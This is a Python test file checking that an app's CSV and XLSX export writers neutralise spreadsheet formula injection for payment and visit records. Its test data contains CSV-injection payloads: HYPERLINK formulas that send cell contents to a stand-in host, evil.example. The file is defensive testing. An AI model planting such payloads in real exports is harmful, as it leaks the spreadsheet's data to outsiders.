"""One formula guard for every CSV and XLSX the app writes (issue 20): text a spreadsheet
would run as a formula (OWASP's leading characters) is defused in CSV and stays a text cell,
never an `<f>` formula, in XLSX. Each writer is fed the whole list."""

from __future__ import annotations

import csv
import io
import os
import zipfile
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from backend import spreadsheets
from backend.reviews import export_rules, exports
from backend.workflow import payment_files

# OWASP "CSV Injection": cells starting with these run as formulas.
OWASP_LEADS = ("=", "+", "-", "@", "\t", "\r")
NASTY = [lead + 'HYPERLINK("http://evil.example/?leak="&A2,"点击查看")' for lead in OWASP_LEADS]
NOW = datetime(2026, 12, 2, 8, 0, tzinfo=UTC)
SHANGHAI = ZoneInfo("Asia/Shanghai")


@pytest.mark.parametrize(("value", "shown"), [
    ("=1+1", "'=1+1"), ("+86", "'+86"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("a=b", "a=b"), ("王", "王"), (-2, "-2"), (4.5, "4.5"),
    (None, ""), (True, "true"),
])
def test_csv_cell_guard(value, shown):
    assert spreadsheets.csv_cell(value) == shown


def _formulas(data: bytes) -> list[str]:
    """Every formula in the workbook, read two ways: openpyxl's cell types, and the raw
    sheet XML (an `<f>` element is a formula whatever the cell's cached value)."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and ("<f>" in archive.read(name).decode()
                                                      or "<f " in archive.read(name).decode()):
                found.append(name)
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            found += [cell.coordinate for cell in row if cell.data_type == "f"]
    return found


def _text(value):
    """A cell's text as Excel shows it: OOXML writes a carriage return as `_x000D_`, which
    Excel decodes and openpyxl leaves as it is."""
    return value.replace("_x000D_", "\r") if isinstance(value, str) else value


def _texts(data: bytes) -> set:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {_text(cell.value) for sheet in book.worksheets for row in sheet.iter_rows()
            for cell in row}


def _csv_values(text: str) -> set:
    return {value for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for value in row}


def _payment_lines():
    return [{"seq": n, "payee_name": name, "id_number_masked": "5306**********2421",
             "bank_account_masked": "****3445", "amount_yuan": "700.00", "category": name,
             "village_code": "530621100201", "village_name": name,
             "case_no": "文屏〔2026〕低保第 0001 号", "case_id": "c",
             "due_on": "2026-12-10"} for n, name in enumerate(NASTY, start=1)]


def _export_visits():
    start = NOW - timedelta(days=3)
    return [export_rules.ExportVisit(
        f"sid{n}", "cid", "hid", "530621100201", name, "received", 1, 100, [name], [name],
        start, start, start + timedelta(minutes=30), 0,
        {"members": [{"name": name, "relation": "head", "id_number": name}],
         "contact_mobile": name, "notes": name, "actual_address": name}, {})
        for n, name in enumerate(NASTY)]


def test_the_payment_csv_defuses_every_leading_character():
    values = _csv_values(payment_files.csv_text(_payment_lines()))
    for name in NASTY:
        assert "'" + name in values and name not in values


def test_the_payment_xlsx_has_no_formula():
    data = payment_files.xlsx_bytes(_payment_lines())
    assert _formulas(data) == []
    assert set(NASTY) <= _texts(data)  # the text itself, shown as text


@pytest.mark.parametrize("sheet", ["visits", "members"])
def test_the_review_csv_defuses_every_leading_character(sheet):
    text = "".join(exports.csv_chunks(_export_visits(), sheet, "en", NOW, SHANGHAI))
    values = _csv_values(text)
    for name in NASTY:
        assert "'" + name in values and name not in values


def test_the_review_xlsx_has_no_formula():
    path = exports.write_xlsx(_export_visits(), "en", NOW, SHANGHAI)
    try:
        with open(path, "rb") as source:
            data = source.read()
    finally:
        os.remove(path)
    assert _formulas(data) == []
    assert set(NASTY) <= _texts(data)


def test_a_formula_looking_text_cell_keeps_its_quote_prefix_in_xlsx():
    """Excel's quote prefix (the cell style, not a character in the value): editing the
    cell and pressing Enter does not turn it into a formula either."""
    data = payment_files.xlsx_bytes(_payment_lines()[:1])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == NASTY[0])
    assert cell.quotePrefix
